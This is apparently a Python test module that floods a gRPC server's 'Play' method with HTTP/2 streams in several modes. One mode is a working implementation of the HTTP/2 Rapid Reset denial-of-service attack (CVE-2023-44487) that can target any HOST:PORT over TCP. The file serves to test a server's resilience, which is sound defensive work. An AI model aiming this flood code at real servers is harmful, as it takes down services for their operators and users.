"""A client that floods a gRPC server with HTTP/2 streams it never reads an
answer on: `python -m tests.stream_flood unix:PATH SECONDS [reset|reconnect]`,
or `python -m tests.stream_flood HOST:PORT SECONDS rapid`.
`reset` keeps a connection and resets its streams once 800 are open;
`reconnect` opens 16 streams on a connection and closes it, again and again;
`rapid` resets each stream as soon as it is opened (CVE-2023-44487), on a new
connection whenever the server closes one, and prints how many it opened.
Each stream is a Play call the server has to take and find gone."""

from __future__ import annotations

import socket
import sys
import threading
import time
from collections.abc import Sequence

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING = 1, 3, 4, 6
END_HEADERS = 4
ACK = 1
CANCEL = (8).to_bytes(4, "big")
BATCH = 20  # streams opened per write
KEPT_OPEN = 800  # older streams are reset, so a connection stays under any cap of 1,000
PER_CONNECTION = 16  # streams opened before a `reconnect` flood closes its connection


def _literal(text: bytes) -> bytes:
    """An HPACK string literal of under 128 bytes, not Huffman-coded."""
    return bytes([len(text)]) + text


def request_headers(path: bytes, extra: Sequence[tuple[bytes, bytes]] = ()) -> bytes:
    """A gRPC request's HEADERS block for `path` ("/pkg.Service/Method"), with
    the `extra` headers (name, value) after the usual ones.

    HPACK: :method POST, :scheme http (indexed), then :path, :authority,
    content-type, te and `extra` as literals without indexing."""
    return (
        b"\x83\x86"
        + b"\x04"
        + _literal(path)
        + b"\x01"
        + _literal(b"localhost")
        + b"\x00"
        + _literal(b"content-type")
        + _literal(b"application/grpc")
        + b"\x00"
        + _literal(b"te")
        + _literal(b"trailers")
        + b"".join(b"\x00" + _literal(name) + _literal(value) for name, value in extra)
    )


PLAY_HEADERS = request_headers(b"/sheepfold.v1.Arena/Play")


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return (
        len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
    )


def _drain(connection: socket.socket) -> None:
    try:
        while connection.recv(65536):
            pass
    except OSError:
        pass


def reconnect(path: str, seconds: float) -> None:
    """Open a few streams on a new connection and close it, until `seconds` pass."""
    opened = b"".join(
        frame(HEADERS, END_HEADERS, 1 + 2 * i, PLAY_HEADERS) for i in range(PER_CONNECTION)
    )
    stop_at = time.monotonic() + seconds
    while time.monotonic() < stop_at:
        with socket.socket(socket.AF_UNIX) as connection:
            try:
                connection.connect(path)
                connection.sendall(PREFACE + frame(SETTINGS, 0, 0, b"") + opened)
            except OSError:
                time.sleep(0.01)


def flood(path: str, seconds: float) -> None:
    """Open and reset streams on connections to the Unix socket at `path`, until
    `seconds` pass."""
    stop_at = time.monotonic() + seconds
    while time.monotonic() < stop_at:
        connection = socket.socket(socket.AF_UNIX)
        try:
            connection.connect(path)
            connection.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
        except OSError:
            connection.close()
            time.sleep(0.01)
            continue
        threading.Thread(target=_drain, args=(connection,), daemon=True).start()
        stream = 1
        try:
            while stream < 200_000 and time.monotonic() < stop_at:
                ids = range(stream, stream + 2 * BATCH, 2)
                opened = (frame(HEADERS, END_HEADERS, i, PLAY_HEADERS) for i in ids)
                connection.sendall(b"".join(opened))
                stream += 2 * BATCH
                old = stream - KEPT_OPEN
                if old > 0:
                    ids = range(old, old + 2 * BATCH, 2)
                    connection.sendall(b"".join(frame(RST_STREAM, 0, i, CANCEL) for i in ids))
        except OSError:
            pass
        connection.close()


def rapid_reset(address: str, seconds: float) -> int:
    """Open Play streams on TCP connections to `address` (HOST:PORT) and reset
    each at once, until `seconds` pass; returns how many were opened."""
    host, port = address.rsplit(":", 1)
    opened = 0
    stop_at = time.monotonic() + seconds
    while time.monotonic() < stop_at:
        try:
            connection = socket.create_connection((host, int(port)), timeout=5)
            connection.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
        except OSError:
            time.sleep(0.01)
            continue
        threading.Thread(target=_drain, args=(connection,), daemon=True).start()
        stream = 1
        try:
            while stream < 2**31 - 2 * BATCH and time.monotonic() < stop_at:
                ids = range(stream, stream + 2 * BATCH, 2)
                opened_and_reset = (
                    frame(HEADERS, END_HEADERS, i, PLAY_HEADERS) + frame(RST_STREAM, 0, i, CANCEL)
                    for i in ids
                )
                connection.sendall(b"".join(opened_and_reset))
                stream += 2 * BATCH
                opened += BATCH
        except OSError:
            pass  # the server closed this connection: open another
        connection.close()
    return opened


def _await_ping_ack(connection: socket.socket) -> bool:
    """Reads the server's frames until its PING acknowledgement; whether one came."""
    received = b""
    try:
        while True:
            while len(received) >= 9:
                length = int.from_bytes(received[:3], "big")
                if len(received) < 9 + length:
                    break
                if received[3] == PING and received[4] & ACK:
                    return True
                received = received[9 + length :]
            chunk = connection.recv(65536)
            if not chunk:
                return False
            received += chunk
    except OSError:
        return False


def reset_burst(address: str, connections: int, streams: int) -> list[socket.socket]:
    """Open `connections` TCP connections to `address` (HOST:PORT) and on each
    send `streams` Play streams, each reset at once, then a PING. Returns once
    the server has acknowledged every PING, so it has read every stream before
    it (HTTP/2 frames on a connection are handled in order), with the
    connections still open: the caller closes them. Raises if the server closed
    one first."""
    host, port = address.rsplit(":", 1)
    opened = b"".join(
        frame(HEADERS, END_HEADERS, i, PLAY_HEADERS) + frame(RST_STREAM, 0, i, CANCEL)
        for i in range(1, 2 * streams, 2)
    )
    burst = PREFACE + frame(SETTINGS, 0, 0, b"") + opened + frame(PING, 0, 0, bytes(8))
    sockets = [socket.create_connection((host, int(port)), timeout=30) for _ in range(connections)]
    try:
        for connection in sockets:
            connection.sendall(burst)
        for connection in sockets:
            if not _await_ping_ack(connection):
                raise ConnectionError("the server closed a connection of the burst")
    except BaseException:
        for connection in sockets:
            connection.close()
        raise
    return sockets


if __name__ == "__main__":
    mode = sys.argv[3] if len(sys.argv) > 3 else "reset"
    if mode == "rapid":
        print(rapid_reset(sys.argv[1], float(sys.argv[2])))
    else:
        floods = {"reset": flood, "reconnect": reconnect}
        floods[mode](sys.argv[1].removeprefix("unix:"), float(sys.argv[2]))
